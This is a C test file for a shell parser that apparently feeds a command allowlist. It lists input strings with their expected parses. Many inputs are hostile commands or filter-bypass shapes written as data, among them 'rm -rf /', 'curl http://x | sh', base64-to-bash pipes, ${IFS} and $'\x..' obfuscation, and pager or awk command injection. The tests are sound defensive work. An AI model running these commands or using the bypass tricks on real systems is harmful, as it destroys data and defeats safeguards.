/*
 * test-shparse: the shell parser (shparse.c, shlex.c) against vectors.
 *
 * Each vector is an input and the expected parse written in a compact
 * form (see dump_script): the simple commands in the order recorded,
 * separated by " ; ", each as
 *
 *	[FLAGS:] %assign... word... [fd]op target...
 *
 * with command flags P piped, S subshell, G group, X substitution,
 * C control flow, B background, T followed by && (its pipeline not
 * negated); word flags after '@': q quoted, p param, c command substitution, a arithmetic, g glob, b brace, t tilde,
 * s process substitution. Bytes are escaped (\n, \t, \r, \xHH, "\ " for a
 * space, \\ and \@); an empty word is ''. After " # " come the unknown
 * constructs, joined by ", ". An expected value starting with '!' is the
 * exact error cause.
 */
#include "autoconf.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <cmocka.h>

#include "buf.h"
#include "shparse.h"
#include "xalloc.h"

struct vector {
	const char	*in;
	const char	*out;
};

static const struct vector vectors[] = {
	/* Plain commands, blanks and comments. */
	{ "ls", "ls" },
	{ "ls -la /tmp", "ls -la /tmp" },
	{ "  ls\t-l  ", "ls -l" },
	{ "", "" },
	{ "\n\n", "" },
	{ "# only a comment", "" },
	{ "ls # a comment $(rm -rf /)", "ls" },
	{ "ls#not-a-comment", "ls#not-a-comment" },
	{ "echo a#b #c", "echo a#b" },
	{ "ls;#c\npwd", "ls ; pwd" },
	{ "echo '#' \\#x", "echo #@q #x@q" },
	{ "echo a # c \\\necho b", "echo a ; echo b" },
	{ "git status", "git status" },
	{ "git log --oneline -n 5", "git log --oneline -n 5" },
	{ "grep -rn 'foo bar' src/", "grep -rn foo\\ bar@q src/" },

	/* Quote removal as bash does it. */
	{ "echo 'a b'", "echo a\\ b@q" },
	{ "echo \"a b\"", "echo a\\ b@q" },
	{ "\"r\"m -rf /", "rm@q -rf /" },
	{ "find . -e''xec rm {} \\;", "find . -exec@q rm {} ;@q" },
	{ "find . -ex\"\"ec sh", "find . -exec@q sh" },
	{ "\\rm -rf x", "rm@q -rf x" },
	{ "fi\\\nnd . -name x", "find . -name x" },
	{ "ls\\\n-l", "ls-l" },
	{ "echo a\\\n b", "echo a b" },
	{ "ls \\\n -l", "ls -l" },
	{ "echo a\\ b", "echo a\\ b@q" },
	{ "echo \"a\\\"b\"", "echo a\"b@q" },
	{ "echo 'a\\'", "echo a\\\\@q" },
	{ "echo \"\\a\"", "echo \\\\a@q" },
	{ "echo \"a\\\\b\"", "echo a\\\\b@q" },
	{ "echo \"a\\$b\"", "echo a$b@q" },
	{ "echo \"\\`id\\`\"", "echo `id`@q" },
	{ "echo ''", "echo ''@q" },
	{ "echo \"\" x", "echo ''@q x" },
	{ "echo 'a\\\nb'", "echo a\\\\\\nb@q" },
	{ "echo \"a\\\nb\"", "echo ab@q" },
	{ "echo 'a\nb'", "echo a\\nb@q" },
	{ "echo \\", "echo \\\\" },
	{ "echo a\\\\", "echo a\\\\@q" },
	{ "'l's", "ls@q" },
	{ "l\\s", "ls@q" },
	{ "e\"ch\"o hi", "echo@q hi" },
	{ "'/bin/rm' -rf /", "/bin/rm@q -rf /" },
	{ "echo 'it'\\''s'", "echo it's@q" },
	{ "echo \"'\"", "echo '@q" },
	{ "echo 'unterminated", "!unterminated single quote at 5" },
	{ "echo \"unterminated", "!unterminated double quote at 5" },
	{ "echo \"a\\", "!unterminated double quote at 5" },
	{ "ls 'a\" b", "!unterminated single quote at 3" },

	/* $'...' and $"...". */
	{ "echo $'a\\nb'", "echo a\\nb@q" },
	{ "echo $'\\t\\r\\a\\b\\f\\v\\\\'",
	  "echo \\t\\r\\x07\\x08\\x0c\\x0b\\\\@q" },
	{ "echo $'\\x41\\101\\u263a'", "echo AA\\xe2\\x98\\xba@q" },
	{ "echo $'\\U0001F600'", "echo \\xf0\\x9f\\x98\\x80@q" },
	{ "echo $'a\\0b'c", "echo ac@q" },
	{ "echo $'a\\x00b'c", "echo ac@q" },
	{ "echo $'\\''", "echo '@q" },
	{ "echo $'\\\"'", "echo \"@q" },
	{ "echo $'\\cA\\e\\E'", "echo \\x01\\x1b\\x1b@q" },
	{ "echo $'\\c?'", "echo \\x7f@q" },
	{ "echo $'\\q\\x'", "echo \\\\q\\\\x@q" },
	{ "echo $'\\0101'", "echo \\x081@q" },
	{ "echo $'\\xfff'", "echo \\xfff@q" },
	{ "r$'m' -rf /", "rm@q -rf /" },
	{ "$'\\x72\\x6d' -rf /", "rm@q -rf /" },
	{ "echo $'\\u202e'", "echo \\xe2\\x80\\xae@q" },
	{ "echo $\"hello $x\"", "echo hello\\ $x@qp" },
	{ "echo \"$'x'\"", "echo $'x'@q" },
	{ "echo $'abc", "!unterminated $' quote at 5" },

	/* Parameters. */
	{ "echo $HOME", "echo $HOME@p" },
	{ "echo \"$HOME\"", "echo $HOME@qp" },
	{ "echo ${HOME}", "echo ${HOME}@p" },
	{ "echo \"${x:-a b}\"", "echo ${x:-a\\ b}@qp" },
	{ "echo ${x#'}'}", "echo ${x#'}'}@p" },
	{ "echo \"${x:-'}\"'}\" y", "echo ${x:-'}\"'}@qp y" },
	{ "echo ${#x} ${x[@]} ${!x}", "echo ${#x}@p ${x[\\@]}@p ${!x}@p" },
	{ "echo $1 $@ $# $? $$ $! $- $0 $*",
	  "echo $1@p $\\@@p $#@p $?@p $$@p $!@p $-@p $0@p $*@p" },
	{ "echo $10", "echo $10@p" },
	{ "echo $ a$ $/ \"$\"", "echo $ a$ $/ $@q" },
	{ "cat${IFS}/etc/passwd", "cat${IFS}/etc/passwd@p" },
	{ "IFS=/ x=a/b", "%IFS=/ %x=a/b" },
	{ "echo ${x", "!unterminated ${ at 5" },
	/* bash drops line continuations before it reads $ forms. */
	{ "echo $\\\nHOME $HO\\\nME", "echo $HOME@p $HOME@p" },
	{ "echo $\\\n(id)", "X:id ; echo $\\\\\\n(id)@c" },
	{ "echo a$\\\n\"\"%", "echo a%@q" },
	{ "echo $\\\n'\\x41'", "echo A@q" },
	{ "echo $((1)\\\n)", "echo $((1)\\\\\\n)@a" },
	{ "(\\\n( 1 ))", "# arithmetic command '(( ))'" },
	{ "cat <\\\n(ls)", "X:ls ; cat <\\\\\\n(ls)@s" },
	{ "$cmd -rf /", "$cmd@p -rf /" },

	/* Operators. */
	{ "a && b || c", "T:a ; b ; c" },
	{ "a&&b||c;d", "T:a ; b ; c ; d" },
	{ "a; b & c", "a ; B:b ; c # background job '&'" },
	{ "a && b &", "BT:a ; B:b # background job '&'" },
	{ "a | b | c", "P:a ; P:b ; P:c" },
	{ "a | b &", "PB:a ; PB:b # background job '&'" },
	{ "a |& b", "P:a 2>&1 ; P:b" },
	{ "ls\npwd\n", "ls ; pwd" },
	{ "ls\n\n\npwd", "ls ; pwd" },
	{ "ls &\\\n& pwd", "T:ls ; pwd" },
	{ "ls &&\n pwd", "T:ls ; pwd" },
	{ "! cd x && rm y", "cd x ; rm y" },
	{ "! ! cd x && rm y", "T:cd x ; rm y" },
	{ "a | b && c || d", "PT:a ; PT:b ; c ; d" },
	{ "a || cd x && rm y", "a ; cd x ; rm y" },
	{ "ls |\n wc", "P:ls ; P:wc" },
	{ "! ls", "ls" },
	{ "time ls -l", "ls -l" },
	{ "time -p ls", "ls" },
	{ "git status; curl http://x | sh",
	  "git status ; P:curl http://x ; P:sh" },
	{ "echo hi;rm -rf /", "echo hi ; rm -rf /" },
	{ "ls&&rm x", "T:ls ; rm x" },
	{ "cat x | base64 -d | bash -s",
	  "P:cat x ; P:base64 -d ; P:bash -s" },
	{ "ls ;; pwd", "!syntax error near unexpected token ';;' at 3" },
	{ "ls ;& pwd", "!syntax error near unexpected token ';&' at 3" },
	{ "; ls", "!syntax error near unexpected token ';' at 0" },
	{ "ls |", "!unexpected end of input at 4" },
	{ "| ls", "!syntax error near unexpected token '|' at 0" },
	{ "ls && && pwd", "!syntax error near unexpected token '&&' at 6" },
	{ "ls & ; pwd", "!syntax error near unexpected token ';' at 5" },
	{ "ls ; ; pwd", "!syntax error near unexpected token ';' at 5" },
	{ "ls )", "!syntax error near unexpected token ')' at 3" },
	{ "!", "!unexpected end of input at 1" },

	/* Redirections. */
	{ "ls > out", "ls >out" },
	{ "ls >out 2>&1", "ls >out 2>&1" },
	{ "ls 2>/dev/null", "ls 2>/dev/null" },
	{ "ls &> all", "ls &>all" },
	{ "ls &>> all", "ls &>>all" },
	{ "ls >| f", "ls >|f" },
	{ "ls >> f", "ls >>f" },
	{ "cat < in", "cat <in" },
	{ "exec 3<> f", "exec 3<>f" },
	{ "cat <&3", "cat <&3" },
	{ "ls >&2", "ls >&2" },
	{ "ls >& file", "ls &>file" },
	{ "ls 1>&-", "ls 1>&-" },
	{ "ls 2>&1-", "ls 2>&1-" },
	{ "echo 2 > x", "echo 2 >x" },
	{ "echo a2>x", "echo a2 >x" },
	{ "ls 2\\\n>x", "ls 2>x" },
	{ "ls 10>x", "ls 10>x" },
	{ "ls '2'>x", "ls 2@q >x" },
	{ "ls > $f", "ls >$f@p" },
	{ "ls > ~/x", "ls >~/x@t" },
	{ "ls > *.txt", "ls >*.txt@g" },
	{ "> out", ">out" },
	{ "x=1 > out ls", "%x=1 ls >out" },
	{ "> out x=1 ls", "%x=1 ls >out" },
	{ "cat <<< 'hi there'", "cat <<<hi\\ there@q" },
	{ "cat <<<$x", "cat <<<$x@p" },
	{ "exec {fd}>file", "exec >file # file descriptor variable '{name}>'" },
	{ "sort -o out in", "sort -o out in" },
	{ "tee f < x", "tee f <x" },
	{ "ls >", "!unexpected end of input at 4" },
	{ "ls >\npwd", "!syntax error near unexpected newline at 4" },
	{ "ls > ;", "!syntax error near unexpected token ';' at 5" },
	{ "ls 99999999999>x", "!file descriptor out of range at 3" },

	/* Process substitution. */
	{ "cat <(ls)", "X:ls ; cat <(ls)@s" },
	{ "diff <(ls a) >(wc)", "X:ls a ; X:wc ; diff <(ls\\ a)@s >(wc)@s" },
	{ "echo foo<(true)", "X:true ; echo foo<(true)@s" },
	{ "echo 2<(true)", "X:true ; echo 2<(true)@s" },
	{ "cat < <(ls)", "X:ls ; cat <<(ls)@s" },
	{ "cat <(ls", "!unterminated process substitution at 4" },

	/* Here-documents and here-strings. */
	{ "cat <<EOF\nhello\nEOF\n", "cat <<hello\\n" },
	{ "cat <<EOF\nhello\nEOF", "cat <<hello\\n" },
	{ "cat <<'EOF'\n$x\nEOF", "cat <<$x\\n@q" },
	{ "cat <<\"E F\"\n$x\nE F\n", "cat <<$x\\n@q" },
	{ "cat <<\\EOF\n$x\nEOF", "cat <<$x\\n@q" },
	{ "cat <<E'O'F\n$x\nEOF", "cat <<$x\\n@q" },
	{ "cat <<EOF\n$x\nEOF", "cat <<$x\\n@p" },
	{ "cat <<EOF\n$(rm -rf /)\nEOF",
	  "cat <<$(rm\\ -rf\\ /)\\n@c ; X:rm -rf /" },
	{ "cat <<EOF\n`id`\nEOF", "cat <<`id`\\n@c ; X:id" },
	{ "cat <<EOF\n$((1+2))\nEOF", "cat <<$((1+2))\\n@a" },
	{ "cat <<EOF\n\\$x \\` \\\\ \\a\nEOF",
	  "cat <<$x\\ `\\ \\\\\\ \\\\a\\n" },
	{ "cat <<EOF\na\\\nb\nEOF", "cat <<ab\\n" },
	{ "cat <<EOF\na\\\nEOF\nEOF", "cat <<aEOF\\n" },
	{ "cat <<EOF\n$(c #a\\\nb)\nEOF", "!unterminated $( at 10" },
	{ "cat <<EOF\n$(c a\\\nb)\nEOF", "cat <<$(c\\ ab)\\n@c ; X:c ab" },
	{ "cat <<'EOF'\na\\\nEOF", "cat <<a\\\\\\n@q" },
	{ "cat <<-EOF\n\thi\n\t\tthere\n\tEOF\n", "cat <<hi\\nthere\\n" },
	{ "cat <<EOF\n\tEOF\nEOF", "cat <<\\tEOF\\n" },
	{ "cat <<EOF\nEOF ", "!here-document 'EOF' has no end line at 4" },
	{ "cat <<EOF\n\"$x\" '$y'\nEOF", "cat <<\"$x\"\\ '$y'\\n@p" },
	{ "cat <<EOF; echo after\nbody\nEOF\necho next",
	  "cat <<body\\n ; echo after ; echo next" },
	{ "cat <<A <<-B\na\nA\n\tb\n\tB\n", "cat <<a\\n <<b\\n" },
	{ "cat <<A; cat <<B\na\nA\nb\nB\n", "cat <<a\\n ; cat <<b\\n" },
	{ "cat <<EOF | sh\nrm -rf /\nEOF",
	  "P:cat <<rm\\ -rf\\ /\\n ; P:sh" },
	{ "cat <<EOF\n\nEOF", "cat <<\\n" },
	{ "cat <<EOF\nEOF", "cat <<''" },
	{ "x=$(cat <<EOF\nhi\nEOF\n)",
	  "X:cat <<hi\\n ; %x=$(cat\\ <<EOF\\nhi\\nEOF\\n)@c" },
	{ "while read l; do echo $l; done <<EOF\na\nEOF",
	  "C:read l ; C:echo $l@p ; C:<<a\\n # control flow 'while'" },
	{ "cat <<EOF $(echo a\necho b)\nbody\nEOF",
	  "X:echo a ; X:echo b ; cat $(echo\\ a\\necho\\ b)@c <<body\\n" },
	{ "cat <<EOF $(echo a\nEOF\n)\nrm -rf /\nEOF",
	  "X:echo a ; X:EOF ; cat $(echo\\ a\\nEOF\\n)@c <<rm\\ -rf\\ /\\n" },
	{ "while read l; do :; done <<EOF | cat\nbody\nEOF",
	  "PC:read l ; PC:: ; PC:<<body\\n ; P:cat # control flow 'while'" },
	{ "cat <<EOF &&\nbody\nEOF\necho ok", "T:cat <<body\\n ; echo ok" },
	/*
	 * bash 5.2 re-prints a substitution holding a here-document and runs
	 * these as "c x c y" / "c { c y": refused rather than guessed.
	 */
	{ "echo $(cat <<EOF\nb\nEOF\nc x;\\\nc y)", "!command after a "
	  "here-document in a substitution at 23" },
	{ "echo $(cat <<EOF\nb\nEOF\nc {; c y)", "!command after a "
	  "here-document in a substitution at 23" },
	{ "echo $(echo $(cat <<EOF\nb\nEOF\n))", "!here-document nested in "
	  "a substitution at 5" },
	{ "echo $(c <<A\na\nA\nc <<B\nb\nB\n)", "!command after a "
	  "here-document in a substitution at 17" },
	{ "echo $(c <<A <<B\na\nA\nb\nB\n)",
	  "X:c <<a\\n <<b\\n ; echo $(c\\ <<A\\ <<B\\na\\nA\\nb\\nB\\n)@c" },
	{ "git commit -m \"$(cat <<'EOF'\nfix: x\n\nbody\nEOF\n)\"",
	  "X:cat <<fix:\\ x\\n\\nbody\\n@q ; git commit -m "
	  "$(cat\\ <<'EOF'\\nfix:\\ x\\n\\nbody\\nEOF\\n)@qc" },
	{ "x=$(c y <<EOF | wc\nb\nEOF\n  \n)",
	  "PX:c y <<b\\n ; PX:wc ; "
	  "%x=$(c\\ y\\ <<EOF\\ |\\ wc\\nb\\nEOF\\n\\ \\ \\n)@c" },
	{ "cat <<EOF\n$(\nEOF", "!unterminated $( at 10" },
	{ "cat <<EOF", "!here-document 'EOF' has no body at 4" },
	{ "cat <<EOF\nhi\n", "!here-document 'EOF' has no end line at 4" },
	{ "cat <<", "!unexpected end of input at 6" },
	{ "echo $(cat <<EOF)", "!here-document 'EOF' not ended inside the "
	  "substitution at 11" },

	/* Command substitution and arithmetic. */
	{ "echo $(ls)", "X:ls ; echo $(ls)@c" },
	{ "echo `ls`", "X:ls ; echo `ls`@c" },
	{ "echo $(echo $(id))",
	  "X:id ; X:echo $(id)@c ; echo $(echo\\ $(id))@c" },
	{ "echo \"$(ls \"a b\")\"",
	  "X:ls a\\ b@q ; echo $(ls\\ \"a\\ b\")@qc" },
	{ "echo $(echo ')')", "X:echo )@q ; echo $(echo\\ ')')@c" },
	{ "echo $(case x in x) echo hi;; esac)",
	  "XC:echo hi ; echo $(case\\ x\\ in\\ x)\\ echo\\ hi;;\\ esac)@c"
	  " # control flow 'case'" },
	{ "echo $(# c )\nls)", "X:ls ; echo $(#\\ c\\ )\\nls)@c" },
	{ "echo $((1+2))", "echo $((1+2))@a" },
	{ "echo $((1+\n2))", "echo $((1+\\n2))@a" },
	{ "echo $(( $(id) + 1 ))", "X:id ; echo $((\\ $(id)\\ +\\ 1\\ ))@ca" },
	{ "echo $(( `id` ))", "X:id ; echo $((\\ `id`\\ ))@ca" },
	{ "echo $((x[$(id)]))", "X:id ; echo $((x[$(id)]))@ca" },
	{ "echo $((echo a);(echo b))",
	  "SX:echo a ; SX:echo b ; echo $((echo\\ a);(echo\\ b))@c" },
	{ "echo $( (ls) )", "SX:ls ; echo $(\\ (ls)\\ )@c" },
	{ "echo $[1+2]", "echo $[1+2]@a" },
	{ "echo $[ $(id) ]", "X:id ; echo $[\\ $(id)\\ ]@ca" },
	{ "echo ${x:-$(rm -rf ~)}",
	  "X:rm -rf ~@t ; echo ${x:-$(rm\\ -rf\\ ~)}@pc" },
	{ "echo \"${x:-`id`}\"", "X:id ; echo ${x:-`id`}@qpc" },
	{ "echo `echo \\`id\\``",
	  "X:id ; X:echo `id`@c ; echo `echo\\ \\\\`id\\\\``@c" },
	{ "echo \"`echo \\\"a b\\\"`\"",
	  "X:echo a\\ b@q ; echo `echo\\ \\\\\"a\\ b\\\\\"`@qc" },
	{ "echo `echo \\$x`", "X:echo $x@p ; echo `echo\\ \\\\$x`@c" },
	{ "a=$(id) b", "X:id ; %a=$(id)@c b" },
	{ "$(echo rm) -rf /", "X:echo rm ; $(echo\\ rm)@c -rf /" },
	{ "echo $()", "echo $()@c" },
	{ "echo $((1+2", "!unterminated '((' at 6" },
	{ "echo $(( \"a ))", "!unterminated '((' at 6" },
	{ "(( x", "!unterminated '((' at 0" },
	{ "echo $[1", "!unterminated '$[' at 5" },
	/* bash rejects this one; reading it as $( ( ) ) only adds commands. */
	{ "echo $(( #(\nls) )", "SX:ls ; echo $((\\ #(\\nls)\\ )@c" },
	{ "echo $(ls", "!unterminated $( at 5" },
	{ "echo `ls", "!unterminated backquote at 5" },
	{ "echo $(ls))", "!syntax error near unexpected token ')' at 10" },
	{ "echo $(;)", "!syntax error near unexpected token ';' at 7" },
	{ "echo `;`", "!syntax error near unexpected token ';' at 6" },

	/* Assignments. */
	{ "FOO=bar ls", "%FOO=bar ls" },
	{ "FOO=bar", "%FOO=bar" },
	{ "a+=x", "%a+=x" },
	{ "a[1]=x", "%a[1]=x@g" },
	{ "arr=(a b c)", "%arr=(a\\ b\\ c) # array assignment" },
	{ "arr=(a\n$(id) # c\n)",
	  "X:id ; %arr=(a\\ $(id))@c # array assignment" },
	{ "declare -a a=(1 2)", "declare -a a=(1\\ 2) # array assignment" },
	{ "ls FOO=bar", "ls FOO=bar" },
	{ "1x=2", "1x=2" },
	{ "\"A\"=1 ls", "A=1@q ls" },
	{ "A=\"1 2\" ls", "%A=1\\ 2@q ls" },
	{ "x=1 y=2 env", "%x=1 %y=2 env" },
	{ "PAGER='sh -c id' git log", "%PAGER=sh\\ -c\\ id@q git log" },
	{ "x=~/bin", "%x=~/bin@t" },
	{ "PATH=/a:~/b", "%PATH=/a:~/b@t" },
	{ "arr=(a", "!unterminated array assignment at 4" },
	{ "arr=(a;b)", "!syntax error in array assignment at 6" },

	/* Tilde, globs, brace expansion. */
	{ "echo ~", "echo ~@t" },
	{ "echo ~/x a~ ~root", "echo ~/x@t a~ ~root@t" },
	{ "echo '~' \\~", "echo ~@q ~@q" },
	{ "echo a=~ --x=~ b:~", "echo a=~@t --x=~ b:~" },
	{ "ls *.c", "ls *.c@g" },
	{ "ls ?", "ls ?@g" },
	{ "ls [ab]", "ls [ab]@g" },
	{ "[ -f x ]", "[ -f x ]" },
	{ "ls '*' \"?\" \\*", "ls *@q ?@q *@q" },
	{ "echo {a,b}", "echo {a,b}@b" },
	{ "echo {1..3}", "echo {1..3}@b" },
	{ "echo a{b,c}d", "echo a{b,c}d@b" },
	{ "echo {}", "echo {}" },
	{ "echo {a}", "echo {a}" },
	{ "echo \"{a,b}\"", "echo {a,b}@q" },
	{ "echo {a,\"b\"}", "echo {a,b}@qb" },
	{ "echo {a,b", "echo {a,b" },
	{ "{ls,-l}", "{ls,-l}@b" },
	{ "echo {a}\\{a,b}", "echo {a}{a,b}@qb" },
	{ "echo {a},b}", "echo {a},b}@b" },

	/* Control flow: the commands inside are extracted and flagged. */
	{ "if true; then rm x; fi", "C:true ; C:rm x # control flow 'if'" },
	{ "if a; then b; elif c; then d; else e; fi",
	  "C:a ; C:b ; C:c ; C:d ; C:e # control flow 'if'" },
	{ "if a\nthen b\nfi", "C:a ; C:b # control flow 'if'" },
	{ "for f in *; do rm $f; done", "C:rm $f@p # control flow 'for'" },
	{ "for f in $(ls); do echo $f; done",
	  "XC:ls ; C:echo $f@p # control flow 'for'" },
	{ "for f; do echo; done", "C:echo # control flow 'for'" },
	{ "for f do echo; done", "C:echo # control flow 'for'" },
	{ "for x in; do ls; done", "C:ls # control flow 'for'" },
	{ "for x in a\ndo ls\ndone", "C:ls # control flow 'for'" },
	{ "for x in a; { ls; }", "C:ls # control flow 'for'" },
	{ "for ((i=0;i<3;i++)); do echo $i; done",
	  "C:echo $i@p # control flow 'for'" },
	{ "for ((i=$(id);;)) do :; done",
	  "XC:id ; C:: # control flow 'for'" },
	{ "while true; do ls; done", "C:true ; C:ls # control flow 'while'" },
	{ "until false; do ls; done", "C:false ; C:ls # control flow 'until'" },
	{ "case $x in a|b) ls;; *) rm x;; esac",
	  "C:ls ; C:rm x # control flow 'case'" },
	{ "case x in (a) ls;& b) pwd;;& esac",
	  "C:ls ; C:pwd # control flow 'case'" },
	{ "case x in\n a)\n ls\n ;;\n esac", "C:ls # control flow 'case'" },
	{ "case x in a) ls; esac", "C:ls # control flow 'case'" },
	{ "case x in esac", "# control flow 'case'" },
	{ "case x in a) ls) ;; esac", "!syntax error: expected 'esac' but "
	  "found token ')' at 15" },
	{ "select x in a b; do echo $x; done",
	  "C:echo $x@p # control flow 'select'" },
	{ "f() { rm -rf /; }; f", "GC:rm -rf / ; f # function definition" },
	{ "f ( ) { ls; }", "GC:ls # function definition" },
	{ "function g { ls; }", "GC:ls # function definition" },
	{ "function g() ( ls )", "SC:ls # function definition" },
	{ "function g\n{ ls; } > out",
	  "GC:ls ; GC:>out # function definition" },
	{ "ls () { :; }", "GC:: # function definition" },
	{ "f() if true; then ls; fi", "C:true ; C:ls # function definition, "
	  "control flow 'if'" },
	{ "$f() { :; }", "!bad function name at 2" },
	{ "f() ls", "!syntax error: expected '{' but found word 'ls' at 4" },
	{ "[[ -f x && $y == z ]]", "# conditional '[[ ]]'" },
	{ "[[ $(id) == x ]]", "XC:id # conditional '[[ ]]'" },
	{ "[[ a < b ]] && ls", "ls # conditional '[[ ]]'" },
	{ "[[ $x =~ ^(a|b)$ ]]", "# conditional '[[ ]]'" },
	{ "[[ $x =~ ^(a b)$ ]]", "# conditional '[[ ]]'" },
	{ "[[ ( a == b ) ]]", "# conditional '[[ ]]'" },
	{ "[[ a\n]]", "# conditional '[[ ]]'" },
	{ "[[ a", "!unterminated '[[' at 0" },
	{ "[[ a ; ]]", "!syntax error near unexpected token ';' at 5" },
	{ "(( i++ ))", "# arithmetic command '(( ))'" },
	{ "(( $(id) ))", "XC:id # arithmetic command '(( ))'" },
	{ "((ls) )", "S:ls" },
	{ "((ls); (pwd))", "S:ls ; S:pwd" },
	{ "{ ls; pwd; } > out", "G:ls ; G:pwd ; G:>out" },
	{ "{ ls; } 2>&1 | wc", "PG:ls ; PG:2>&1 ; P:wc" },
	{ "( cd /; rm -rf * )", "S:cd / ; S:rm -rf *@g" },
	{ "(ls)>x", "S:ls ; S:>x" },
	{ "ls | while read f; do rm \"$f\"; done",
	  "P:ls ; PC:read f ; PC:rm $f@qp # control flow 'while'" },
	{ "coproc ls", "B:ls # coprocess" },
	{ "echo if then fi { } done", "echo if then fi { } done" },
	{ "x=1 if", "%x=1 if" },
	{ "ls; if true; then :; fi", "ls ; C:true ; C:: # control flow 'if'" },
	{ "i\\\nf true; then ls; fi", "C:true ; C:ls # control flow 'if'" },
	{ "'if' true", "if@q true" },
	{ "if", "!unexpected end of input at 2" },
	{ "if true; then ls", "!syntax error: expected 'fi' but found end "
	  "of input at 16" },
	{ "if then ls; fi", "!syntax error near unexpected word 'then' at 3" },
	{ "fi", "!syntax error near unexpected word 'fi' at 0" },
	{ "ls; done", "!syntax error near unexpected word 'done' at 4" },
	{ "{ ls }", "!syntax error: expected '}' but found end of input at 6" },
	{ "( )", "!syntax error near unexpected token ')' at 2" },
	{ "(ls", "!syntax error: expected ')' but found end of input at 3" },
	{ "while true; do ls; don", "!syntax error: expected 'done' but "
	  "found end of input at 22" },
	{ "{ ls; } foo", "!syntax error near unexpected word 'foo' at 8" },
	{ "case x in a) ls;;", "!unexpected end of input at 17" },

	/* Known bypass shapes: the words the allowlist will see. */
	{ "cat <<EOF |\nbody\nEOF\nwc -c", "P:cat <<body\\n ; P:wc -c" },
	{ "git -c core.pager='sh -c id' log",
	  "git -c core.pager=sh\\ -c\\ id@q log" },
	{ "git --no-pager diff --output=/tmp/x",
	  "git --no-pager diff --output=/tmp/x" },
	{ "sed -n '1e id' f; sed 'w out' f",
	  "sed -n 1e\\ id@q f ; sed w\\ out@q f" },
	{ "awk 'BEGIN{system(\"id\")}'", "awk BEGIN{system(\"id\")}@q" },
	{ "xargs rm < list", "xargs rm <list" },
	{ "env -i sh -c 'rm -rf /'", "env -i sh -c rm\\ -rf\\ /@q" },
	{ "sort --out=x in; uniq in out", "sort --out=x in ; uniq in out" },
	{ "ls | tee f", "P:ls ; P:tee f" },
	{ "eval \"$(curl -s x)\"", "X:curl -s x ; eval $(curl\\ -s\\ x)@qc" },
	{ "command rm x; builtin cd; exec sh; . ./x; source y",
	  "command rm x ; builtin cd ; exec sh ; . ./x ; source y" },
	{ "sudo -u root id", "sudo -u root id" },
	{ "./cat x; /tmp/x/cat y; /bin/cat z",
	  "./cat x ; /tmp/x/cat y ; /bin/cat z" },
	{ "ls\n rm -rf ~", "ls ; rm -rf ~@t" },
	{ "ls $'\\n' rm", "ls \\n@q rm" },

	/* Bytes bash treats as ordinary: kept intact for the allowlist. */
	{ "ls\r\nrm x", "ls\\r ; rm x" },
	{ "ls\rrm x", "ls\\rrm x" },
	{ "ls \x01x", "ls \\x01x" },
	{ "ls\xc2\xa0-la", "ls\\xc2\\xa0-la" },
	{ "echo \xe2\x80\xae" "abc", "echo \\xe2\\x80\\xaeabc" },
	{ "echo '\x1b[2J'", "echo \\x1b[2J@q" },
};

/* Append a byte, escaped for the compact form. */
static void
dump_byte(struct buf *b, unsigned char c)
{
	switch (c) {
	case '\n':
		buf_puts(b, "\\n");
		break;
	case '\t':
		buf_puts(b, "\\t");
		break;
	case '\r':
		buf_puts(b, "\\r");
		break;
	case ' ':
	case '\\':
	case '@':
		buf_putc(b, '\\');
		buf_putc(b, (char)c);
		break;
	default:
		if (c < 0x20 || c >= 0x7f)
			buf_printf(b, "\\x%02x", c);
		else
			buf_putc(b, (char)c);
		break;
	}
}

/* A word: escaped text and its flags. */
static void
dump_word(struct buf *b, const struct sh_word *w)
{
	static const char letters[] = "qpcagbts";
	const char	*s;
	int		 i;

	if (w->text[0] == '\0')
		buf_puts(b, "''");
	for (s = w->text; *s != '\0'; s++)
		dump_byte(b, (unsigned char)*s);
	if (w->flags != 0) {
		buf_putc(b, '@');
		for (i = 0; letters[i] != '\0'; i++)
			if (w->flags & (1 << i))
				buf_putc(b, letters[i]);
	}
}

/* The compact form of a whole script (see the top of the file). */
static char *
dump_script(const struct sh_script *s)
{
	static const char *const ops[] = {
		[SH_R_IN] = "<", [SH_R_OUT] = ">", [SH_R_APPEND] = ">>",
		[SH_R_CLOBBER] = ">|", [SH_R_INOUT] = "<>",
		[SH_R_DUP_IN] = "<&", [SH_R_DUP_OUT] = ">&",
		[SH_R_OUT_ERR] = "&>", [SH_R_APPEND_ERR] = "&>>",
		[SH_R_HEREDOC] = "<<", [SH_R_HERESTRING] = "<<<",
	};
	static const char cflags[] = "PSGXCBT";
	struct buf		 b = BUF_INIT;
	const struct sh_cmd	*c;
	size_t			 i, j;
	int			 k;
	bool			 sp;

	for (i = 0; i < s->ncmds; i++) {
		c = &s->cmds[i];
		if (i > 0)
			buf_puts(&b, " ; ");
		if (c->flags != 0) {
			for (k = 0; cflags[k] != '\0'; k++)
				if (c->flags & (1 << k))
					buf_putc(&b, cflags[k]);
			buf_putc(&b, ':');
		}
		sp = false;
		for (j = 0; j < c->nassigns; j++) {
			buf_puts(&b, sp ? " %" : "%");
			dump_word(&b, &c->assigns[j]);
			sp = true;
		}
		for (j = 0; j < c->nwords; j++) {
			if (sp)
				buf_putc(&b, ' ');
			dump_word(&b, &c->words[j]);
			sp = true;
		}
		for (j = 0; j < c->nredirs; j++) {
			if (sp)
				buf_putc(&b, ' ');
			if (c->redirs[j].fd >= 0)
				buf_printf(&b, "%d", c->redirs[j].fd);
			buf_puts(&b, ops[c->redirs[j].op]);
			dump_word(&b, &c->redirs[j].target);
			sp = true;
		}
	}
	if (s->unknown.n > 0) {
		buf_puts(&b, b.len > 0 ? " # " : "# ");
		for (i = 0; i < s->unknown.n; i++) {
			if (i > 0)
				buf_puts(&b, ", ");
			buf_puts(&b, s->unknown.v[i]);
		}
	}
	return buf_detach(&b);
}

/* Parse in and return the compact form, or "!cause". */
static char *
parse_dump(const char *in, size_t len)
{
	struct sh_script	 s = SH_SCRIPT_INIT;
	char			*cause = NULL, *out;

	if (sh_parse_mem(in, len, &s, &cause) != 0) {
		assert_non_null(cause);
		assert_int_equal(s.ncmds, 0);
		assert_int_equal(s.unknown.n, 0);
		out = xasprintf("!%s", cause);
		free(cause);
		return out;
	}
	assert_null(cause);
	out = dump_script(&s);
	sh_script_release(&s);
	return out;
}

/* One vector. */
static void
test_vector(void **state)
{
	const struct vector	*v = *state;
	char			*got;

	got = parse_dump(v->in, strlen(v->in));
	if (strcmp(got, v->out) != 0)
